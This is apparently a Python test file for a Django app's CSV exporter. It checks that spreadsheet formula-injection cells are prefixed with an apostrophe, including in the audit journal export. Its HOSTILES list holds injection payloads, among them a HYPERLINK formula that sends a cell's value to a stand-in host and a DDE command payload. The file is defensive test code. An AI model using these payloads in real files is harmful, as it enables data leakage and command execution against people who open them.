"""The one CSV writer (cpro.csv_export): hostile cells never become formulas."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from cpro.audit import journaliser
from cpro.csv_export import ecrire_csv, neutraliser
from cpro.models import ExportJob
from tests.personas import login

HOSTILES = [
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\tpremier",
    "\rretour",
]


def lire(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("valeur", HOSTILES)
def test_hostile_text_is_prefixed_with_an_apostrophe(valeur):
    assert neutraliser(valeur) == "'" + valeur
    (ligne,) = lire(ecrire_csv(["x"], [[valeur]]))[1:]
    assert ligne == ["'" + valeur]


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        ("Dupont", "Dupont"),
        ("Jean-Pierre", "Jean-Pierre"),  # a dash inside is harmless
        (Decimal("-1.5"), "-1,5"),  # numbers stay numbers (decimal comma)
        (12, "12"),
        (None, ""),
        (True, "oui"),
        ("", ""),
    ],
)
def test_harmless_values_are_kept(valeur, attendu):
    assert neutraliser(valeur) == attendu


def test_file_shape_semicolons_crlf_bom():
    data = ecrire_csv(["Nom", "Note"], [["a;b", Decimal("12.5")]])
    assert data == '\ufeffNom;Note\r\n"a;b";12,5\r\n'.encode()


@pytest.mark.parametrize("valeur", HOSTILES)
def test_journal_csv_neutralises_hostile_names(
    valeur, client, personas, django_capture_on_commit_callbacks
):
    """A learner renamed `=HYPERLINK(…)` or a scénario titled `=cmd|…` reaches the journal as
    the object's name: the DDFPT's spreadsheet shows it as text."""
    membership = personas.a.apprenant
    membership.user.last_name = valeur
    membership.user.save()
    journaliser(
        "compte.desactivation",
        par=personas.a.ddfpt.user,
        etablissement=personas.a.etablissement,
        objet=membership,
        avant={"titre": valeur},
    )
    login(client, personas.a.ddfpt, personas.a.diplome)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("etab:journal_exporter", kwargs={"etab": "lp-a"}))
    job = ExportJob.objects.get()
    lignes = lire(job.file.read())
    cellules = [c for ligne in lignes[1:] for c in ligne]
    assert any(valeur.strip().upper() in c.upper() for c in cellules)
    for c in cellules:
        assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
